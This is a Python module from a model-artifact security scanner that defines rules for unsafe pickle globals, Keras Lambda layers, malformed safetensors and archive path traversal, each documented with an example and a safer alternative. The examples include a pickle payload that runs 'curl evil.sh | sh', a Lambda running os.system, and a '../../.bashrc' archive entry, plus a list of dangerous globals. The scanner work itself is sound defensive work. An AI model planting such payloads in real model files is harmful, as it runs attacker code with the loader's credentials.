"""The rules of the models hook, declared once: pickle-based artifacts and what cannot be
judged (the formats that carry code without a pickle are in `catalog_formats`)."""

from __future__ import annotations

from mlwarden.checks.models.catalog_formats import FORMAT_RULES, GHSA, NVD
from mlwarden.core.findings import Confidence, Severity
from mlwarden.core.rules import Rule, RuleDoc

NAME = "models"
_PICKLE_REFS = (
    "https://docs.python.org/3/library/pickle.html#restricting-globals",
    "https://huggingface.co/docs/hub/security-pickle",
)
# The published scanner bypasses the gadget table (`gadgets.py`) is built from.
_BYPASS_REFS = (
    f"{NVD}CVE-2025-1716",  # pip.main
    f"{NVD}CVE-2026-3490",  # pkgutil.resolve_name
    f"{NVD}CVE-2025-10157",  # asyncio subprocess transport
    f"{NVD}CVE-2025-71320",  # pydoc.locate
    f"{NVD}CVE-2025-71355",  # numpy.testing runstring
    f"{NVD}CVE-2025-71323",  # ctypes
    f"{NVD}CVE-2025-67747",  # marshal + types.FunctionType
    f"{NVD}CVE-2026-56315",  # uuid / imaplib / _osx_support command runners
    f"{GHSA}GHSA-5j3x-jp52-966f",  # dotted STACK_GLOBAL names
    f"{GHSA}GHSA-mxhj-88fx-4pcv",  # OBJ + POP
)
_INSTEAD = (
    "# share weights, not code:\n"
    "from safetensors.torch import save_file, load_file\n"
    "save_file(model.state_dict(), 'model.safetensors')\n"
    "model.load_state_dict(load_file('model.safetensors'))"
)

PICKLE_RULES: tuple[Rule, ...] = (
    Rule(
        "MOD001",
        "dangerous-pickle-global",
        NAME,
        Severity.HIGH,
        Confidence.HIGH,
        "A model artifact imports a code-execution, import or I/O primitive",
        RuleDoc(
            what="Reads every pickle stream in the file (raw, several back to back, torch "
            "zip, legacy torch, joblib, .npy, compressed, inside tar/7z/zip archives) the "
            "way CPython's unpickler does, without loading it, and flags globals such as "
            "`os.system`, `builtins.eval`, `pkgutil.resolve_name`, `pip.main`, `timeit`, "
            "`ctypes`, `torch.hub` or `numpy.testing`, dotted protocol-4 names that walk to "
            "them (`torch` + `serialization.os.system`), `EXT` codes registered in the "
            "stream by `copyreg.add_extension`, `BUILD` states that plant `__setstate__`, "
            "names built at load time, and what nested `pickle.loads` payloads import. "
            "Each message says why the name runs code and which advisory used it. Keras "
            "configs that reference such names are reported too.",
            why="Unpickling calls whatever the file imports: `torch.load`, `joblib.load` or "
            "`pickle.load` of this file runs the attacker's command with your credentials.",
            example="class Payload:\n    def __reduce__(self):\n"
            "        return (os.system, ('curl evil.sh | sh',))\n"
            "torch.save({'w': Payload()}, 'model.pt')",
            instead=_INSTEAD,
            references=_PICKLE_REFS + _BYPASS_REFS,
        ),
        cwe=(502, 94),
    ),
    Rule(
        "MOD002",
        "unknown-pickle-global",
        NAME,
        Severity.MEDIUM,
        Confidence.MEDIUM,
        "A model artifact imports a global that is not on the allow-list",
        RuleDoc(
            what="Every global a pickle imports is checked against an exact list of what "
            "torch, numpy, pandas, scikit-learn, xgboost, lightgbm and the standard "
            "containers store. Anything else is reported.",
            why="Deny-lists are bypassed again and again (`timeit`, `code`, "
            "`numpy.testing._private.utils.runstring`...); an unknown callable runs on load.",
            example="pickle imports `mypkg.layers.Custom`",
            instead='[tool.mlwarden.models]\nallow-globals = ["mypkg.layers.Custom", "mypkg.*"]',
            references=_PICKLE_REFS,
        ),
        cwe=(502,),
    ),
    Rule(
        "MOD003",
        "pickle-model-format",
        NAME,
        Severity.INFO,
        Confidence.HIGH,
        "A model is stored in a pickle-based format",
        RuleDoc(
            what="Notes every committed artifact that holds a pickle stream (torch .pt/.bin, "
            "joblib, .pkl, object .npy). Policy: `pickle-format-severity` (info by default).",
            why="Even a clean pickle teaches users to load pickles; the next one may not be.",
            example="torch.save(model.state_dict(), 'model.pt')",
            instead=_INSTEAD,
            references=("https://huggingface.co/docs/safetensors",),
        ),
        cwe=(502,),
    ),
    Rule(
        "MOD004",
        "large-artifact-not-in-lfs",
        NAME,
        Severity.LOW,
        Confidence.HIGH,
        "A large binary artifact is committed to git instead of Git LFS or DVC",
        RuleDoc(
            what="Reports binary files over `max-size-mb` (10 MB by default) that no "
            "`.gitattributes` LFS pattern or `.dvc` pointer covers.",
            why="Big binaries bloat every clone forever and are hard to review or rotate; "
            "LFS/DVC keep them content-addressed and out of history.",
            example="git add checkpoints/model-final.pt  # 1.3 GB",
            instead="git lfs track '*.pt'\n# or\ndvc add checkpoints/model-final.pt",
            references=("https://git-lfs.com/", "https://dvc.org/doc/start"),
        ),
    ),
    Rule(
        "MOD005",
        "keras-lambda-layer",
        NAME,
        Severity.HIGH,
        Confidence.HIGH,
        "A Keras model holds a Lambda layer (marshalled Python bytecode)",
        RuleDoc(
            what="Reads the model config of Keras v3 archives (`config.json`, recognised by "
            "content: `metadata.json` is optional), legacy HDF5 files (`model_config` and "
            "`training_config` attributes, read with h5py) and TF SavedModel "
            "`keras_metadata.pb`, at every depth, and flags Lambda layers whose function, "
            "`output_shape` or `mask` is marshalled bytecode (`__lambda__`, "
            "`function_type: lambda`).",
            why="A Lambda layer stores Python bytecode that runs when the model is loaded: "
            "always for Keras < 2.13 (CVE-2024-3660), for legacy .h5 files even with "
            "safe_mode=True until Keras 3.11.3 (CVE-2025-9905), whenever safe_mode is "
            "unset in `from_config` paths (CVE-2026-12481), and after a config switches "
            "safe mode off (CVE-2025-9906).",
            example="keras.layers.Lambda(lambda x: __import__('os').system('id') or x)",
            instead="@keras.saving.register_keras_serializable()\n"
            "class Scale(keras.layers.Layer): ...",
            references=(
                f"{NVD}CVE-2024-3660",
                f"{NVD}CVE-2025-9905",
                f"{NVD}CVE-2026-12481",
                f"{GHSA}GHSA-36rr-ww3j-vrjv",
            ),
        ),
        cwe=(502, 94),
    ),
    Rule(
        "MOD006",
        "malformed-safetensors",
        NAME,
        Severity.MEDIUM,
        Confidence.HIGH,
        "A safetensors file has an invalid header",
        RuleDoc(
            what="Checks the header: valid JSON, known dtypes, offsets inside the file, "
            "sizes matching shapes, no overlaps or holes.",
            why="A tampered header makes loaders read out of bounds or silently load "
            "different weights than the ones reviewed.",
            example='{"w": {"dtype": "F32", "shape": [4], "data_offsets": [0, 4096]}}',
            instead="from safetensors.torch import save_file\n"
            "save_file(tensors, 'model.safetensors')",
            references=("https://github.com/huggingface/safetensors#format",),
        ),
        cwe=(20,),
    ),
    Rule(
        "MOD007",
        "model-analysis-incomplete",
        NAME,
        Severity.MEDIUM,
        Confidence.LOW,
        "A model artifact could not be read the way its loader reads it, or not completely",
        RuleDoc(
            what="Reported when an artifact cannot be judged: a pickle that breaks before "
            "its STOP (what came before the break is still judged: the loader ran it), a "
            "truncated or corrupt zip, tar, 7z, gzip, HDF5, GGUF or protobuf, an encrypted "
            "archive, a zip method no loader reads, a chat template that does not parse, a "
            "file named like a model that is none; or when a limit is hit (decompressed "
            "size, opcode count, nesting, archive members). Zip members with the encrypted "
            "flag, a local name that differs from the central directory, or a wrong CRC "
            "are not this rule: they are read as torch reads them and judged.",
            why="What was not read was not checked. Broken pickles (nullifAI), tampered zip "
            "headers and padding past a scanner's limits are published ways to get a "
            "payload past scanners that give up quietly, so the file is reported instead "
            "of passed. Suppress it per path once you know the file.",
            example="a torch zip cut short; a .7z with an encrypted header; data.pkl that "
            "runs os.system and then holds bytes that are no opcode",
            instead="[tool.mlwarden.models]\nmax-decompressed-mb = 4096  # if the file is "
            'trusted\n# or: [tool.mlwarden] exclude = ["fixtures/broken.pt"]',
            references=(
                "https://www.reversinglabs.com/blog/rl-identifies-malware-ml-model-hosted-on-hugging-face",
                f"{NVD}CVE-2025-1944",
                f"{NVD}CVE-2025-1945",
                f"{NVD}CVE-2025-10156",
            ),
        ),
        cwe=(400, 636),
    ),
    Rule(
        "MOD008",
        "archive-path-traversal",
        NAME,
        Severity.HIGH,
        Confidence.HIGH,
        "An archive member or link leaves the folder it is extracted into",
        RuleDoc(
            what="Checks every member of zip, tar (plain or compressed: SageMaker "
            "`model.tar.gz`) and 7z archives, at any nesting: absolute names, names that "
            "climb out with `..`, symlinks and hard links that point outside the folder, "
            "zip entries flagged as symlinks.",
            why="Extracting such an archive (`tar.extractall()` without a filter, "
            "`keras.utils.get_file(extract=True)` before its fixes, hand-written unzip "
            "code) writes `~/.bashrc`, a cron job or a `.pth` file: code that runs later.",
            example="model.tar.gz holding `../../.bashrc`",
            instead="tar.extractall(path, filter='data')  # Python 3.12+\n"
            "# and rebuild the archive from a clean folder",
            references=(
                "https://docs.python.org/3/library/tarfile.html#extraction-filters",
                "https://github.com/keras-team/keras/issues/23055",
                f"{NVD}CVE-2007-4559",
            ),
        ),
        cwe=(22, 59),
    ),
)

RULES: tuple[Rule, ...] = PICKLE_RULES + FORMAT_RULES
